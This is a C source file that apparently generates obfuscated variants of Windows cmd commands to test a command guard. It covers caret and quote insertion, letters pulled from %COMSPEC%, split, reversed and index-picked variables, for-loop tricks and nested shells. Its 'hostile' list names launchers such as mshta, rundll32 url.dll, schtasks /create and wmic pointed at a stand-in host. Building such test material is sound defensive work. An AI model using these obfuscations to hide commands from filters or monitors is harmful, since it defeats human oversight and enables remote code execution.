/* SPDX-License-Identifier: Apache-2.0 */
/*
 * cmd: the families published for it: carets, quotes and blanks, letters of well-known variables,
 * variables set and called, delayed expansion, replacement, loops over indexes, for /f, nested
 * shells. The base commands hold no sign that means something to cmd.
 */
#include <stdio.h>
#include <string.h>

#include "obfuscate.h"

/* A letter that no loop inside uses. */
static char letter(struct str script)
{
    char name[2] = {'%', 'i'};
    while (name[1] < 'z' && str_find(script, (struct str){name, 2}, 0) < script.n)
        name[1]++;
    return name[1];
}

static struct str head(struct str script, struct str *rest)
{
    size_t blank = str_find_char(script, ' ', 0);
    *rest = str_from(script, blank);
    return str_slice(script, 0, blank);
}

static void token_case(struct buf *out, struct str script, struct random *r)
{
    struct str rest, name = head(script, &rest);
    put_any_case(out, name, r);
    buf_add(out, rest);
}

static void token_carets(struct buf *out, struct str script, struct random *r)
{
    for (size_t i = 0; i < script.n; i++) {
        if (ascii_is_alnum(script.p[i]) && i && random_below(r, 2))
            buf_char(out, '^');
        buf_char(out, script.p[i]);
    }
}

static void token_quotes(struct buf *out, struct str script, struct random *r)
{
    struct str rest, name = head(script, &rest);
    if (str_eqi(name, STR("start"))) { /* its first quoted argument is a title */
        buf_fmt(out, "%s \"\"%.*s", PICK(r, "sta\"rt\"", "s\"ta\"rt"), STR_ARG(rest));
        return;
    }
    size_t at = 1 + random_below(r, (uint32_t)name.n - 1);
    buf_fmt(out, "%.*s\"%.*s\"%.*s", STR_ARG(str_slice(name, 0, at)), STR_ARG(str_from(name, at)),
            STR_ARG(rest));
}

static void token_blanks(struct buf *out, struct str script, struct random *r)
{
    struct str rest, name = head(script, &rest);
    buf_add(out, str_of(PICK(r, " ", "  ", ",", ";", "=", ", ;", "\t", "@", " @")));
    buf_add(out, name);
    buf_add(out, str_of(PICK(r, "", " ", "  ", "\t")));
    buf_add(out, rest);
    buf_add(out, str_of(PICK(r, "", "  ", "\t")));
}

static void token_redirected(struct buf *out, struct str script, struct random *r)
{
    buf_fmt(out, "%s%.*s%s", PICK(r, ">nul ", "2>nul ", "<nul ", "1>nul 2>&1 "), STR_ARG(script),
            PICK(r, "", " 2>nul", " >nul"));
}

/* s, t, a, r … from COMSPEC = C:\Windows\system32\cmd.exe and others, where they have them. */
static void token_letters(struct buf *out, struct str script, struct random *r)
{
    static const char comspec[] = "C:\\Windows\\system32\\cmd.exe";
    static const char data[] = "C:\\ProgramData";
    struct str rest, name = head(script, &rest);
    for (size_t i = 0; i < name.n; i++) {
        const char *hit = strchr(comspec, name.p[i]), *other = strchr(data, name.p[i]);
        if (hit && random_below(r, 2))
            buf_fmt(out, "%%%s:~%d,1%%", PICK(r, "COMSPEC", "ComSpec", "comspec"),
                    (int)(hit - comspec));
        else if (other && random_below(r, 2))
            buf_fmt(out, "%%ProgramData:~%d,1%%", (int)(other - data));
        else
            buf_char(out, name.p[i]);
    }
    buf_add(out, rest);
}

/* A percent sign doubled again would be text; only scripts without one can be set. */
static bool has_percent(struct str script)
{
    return str_has_char(script, '%') || str_has_char(script, '!') || str_has_char(script, '"') ||
           str_has_char(script, '^') || str_has_char(script, '&') || str_has_char(script, '|') ||
           str_has_char(script, '>') || str_has_char(script, '<') || str_has_char(script, '(');
}

static void variable_parts(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    size_t at = 1 + random_below(r, (uint32_t)script.n - 1);
    buf_fmt(out, "set a=%.*s&&set b=%.*s&&call %%b%%%%a%%", STR_ARG(str_from(script, at)),
            STR_ARG(str_slice(script, 0, at)));
}

static void variable_delayed(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    size_t at = 1 + random_below(r, (uint32_t)script.n - 1);
    buf_fmt(out, "cmd /v:on /c \"set x=%.*s&&set y=%.*s&&!x!!y!\"",
            STR_ARG(str_slice(script, 0, at)), STR_ARG(str_from(script, at)));
}

static void variable_replaced(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    auto_buf struct buf changed = {0};
    put_replaced(&changed, script, 't', "#");
    if (random_below(r, 2))
        buf_fmt(out, "cmd /v:on /c \"set x=%.*s&&!x:#=t!\"", STR_ARG(buf_str(&changed)));
    else
        buf_fmt(out, "set x=%.*s&&call %%x:#=t%%", STR_ARG(buf_str(&changed)));
}

/* for %i in (3 1 …) do set r=!r!!s:~%i,1! */
static void variable_picked(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script) || script.n > 90) {
        buf_add(out, script);
        return;
    }
    char letters[96] = {0};
    size_t count = 0;
    for (size_t i = 0; i < script.n; i++)
        if (!memchr(letters, script.p[i], count))
            letters[count++] = script.p[i];
    for (size_t i = count; i > 1; i--) {
        size_t k = random_below(r, (uint32_t)i);
        char swap = letters[k];
        letters[k] = letters[i - 1];
        letters[i - 1] = swap;
    }
    /* a blank at the end of the set would be lost */
    if (letters[count - 1] == ' ') {
        letters[count - 1] = letters[0];
        letters[0] = ' ';
    }
    buf_fmt(out, "cmd /v:on /c \"set s=%s&&for %%i in (", letters);
    for (size_t i = 0; i < script.n; i++)
        buf_fmt(out, "%d ", (int)((char *)memchr(letters, script.p[i], count) - letters));
    buf_fmt(out, "99) do (set c=!c!!s:~%%i,1!&&if %%i==99 call %%c:~%s%%)\"",
            PICK(r, "0,-1", "-1000,999"));
    /* the marker 99 picks nothing, so that c is whole */
}

static void variable_reversed(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    buf_add(out, STR("cmd /v:on /c \"set s="));
    for (size_t i = script.n; i-- > 0;)
        buf_char(out, script.p[i]);
    buf_fmt(out, "&&for /L %%i in (%zu,-1,0) do (set c=!c!!s:~%%i,1!&&if %%i==0 %s)\"",
            script.n - 1, PICK(r, "call %c%", "!c!"));
}

static void for_output(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    buf_fmt(out, "for /f \"%s\" %%a in ('echo %.*s') do %%a",
            PICK(r, "delims=", "tokens=*", "delims=;"), STR_ARG(script));
}

static void for_words(struct buf *out, struct str script, struct random *r)
{
    struct str rest, name = head(script, &rest);
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    buf_fmt(out, "for %%%s in (%.*s) do %%%s%.*s", "q", STR_ARG(name), "q", STR_ARG(rest));
    (void)r;
}

WRAPPED(tree_block, "(\1)", "( (\1) )", "(ver & \1)", "(\n\1\n)")
WRAPPED(tree_branch, "if 1==1 \1", "if not a==b (\1)", "if a==b (ver) else (\1)",
        "if defined OS \1", "if exist . \1")
WRAPPED(tree_joined, "ver & \1", "ver && \1", "cd nowhere || \1", "\1 & ver", "echo x | (\1)",
        "rem a\n\1", ":x\n\1")

static void tree_loop(struct buf *out, struct str script, struct random *r)
{
    char i = letter(script);
    switch (random_below(r, 3)) {
    case 0: buf_fmt(out, "for %%%c in (1) do %.*s", i, STR_ARG(script)); return;
    case 1: buf_fmt(out, "for %%%c in (1 2) do (%.*s)", i, STR_ARG(script)); return;
    default: buf_fmt(out, "for /l %%%c in (1,1,1) do %.*s", i, STR_ARG(script)); return;
    }
}

static void launch_nested(struct buf *out, struct str script, struct random *r)
{
    if (str_has_char(script, '"') || str_has_char(script, '\n')) { /* its quotes would end these */
        buf_fmt(out, "(%.*s)", STR_ARG(script));
        return;
    }
    buf_fmt(out, "%s%s \"%.*s\"", PICK(r, "cmd", "cmd.exe", "%COMSPEC%", "CmD"),
            PICK(r, " /c", " /s /c", " /d/c", "/c", " /r", " /q /k"), STR_ARG(script));
}

static void launch_input(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    buf_fmt(out, "echo %.*s|%s", STR_ARG(script), PICK(r, "cmd", "cmd.exe", "cmd /q"));
}

static void launch_file(struct buf *out, struct str script, struct random *r)
{
    if (has_percent(script)) {
        buf_add(out, script);
        return;
    }
    buf_fmt(out, "echo %.*s>zz.%s&%s", STR_ARG(script), "bat",
            PICK(r, "zz.bat", "call zz.bat", "cmd /c zz.bat", "zz"));
}

static const struct transformation transformations[] = {
    {"token", "case", token_case, true},
    {"token", "carets", token_carets, true},
    {"token", "quotes", token_quotes, true},
    {"token", "blanks and separators", token_blanks, true},
    {"token", "redirections in front", token_redirected, true},
    {"token", "letters of variables", token_letters, true},
    {"variable", "parts that are called", variable_parts, true},
    {"variable", "delayed expansion", variable_delayed, true},
    {"variable", "replacement", variable_replaced, true},
    {"variable", "letters by index", variable_picked, true},
    {"variable", "reversed", variable_reversed, true},
    {"variable", "output of a command", for_output, true},
    {"variable", "words of a loop", for_words, true},
    {"tree", "blocks", tree_block, false},
    {"tree", "branches", tree_branch, false},
    {"tree", "joined commands", tree_joined, false},
    {"tree", "loops", tree_loop, false},
    {"launcher", "nested shell", launch_nested, false},
    {"launcher", "standard input", launch_input, true},
    {"launcher", "script file", launch_file, true},
};

static const char *const hostile[] = {
    "start https://x.test/a",
    "explorer https://x.test/a",
    "msedge https://x.test/a",
    "schtasks /create /tn x /tr calc",
    "rundll32 url.dll,FileProtocolHandler https://x.test/a",
    "mshta https://x.test/a",
    "wmic process call create calc",
    "powershell -c Start-Process https://x.test/a",
};

static const char *const benign[] = {"git status", "npm install react", "echo https://x.test/a",
                                     "curl https://x.test/a", "node a.js"};

const struct obfuscator obfuscate_cmd = {
    GUARD_CMD,      "cmd",         hostile,         benign,
    COUNT(hostile), COUNT(benign), transformations, COUNT(transformations)};
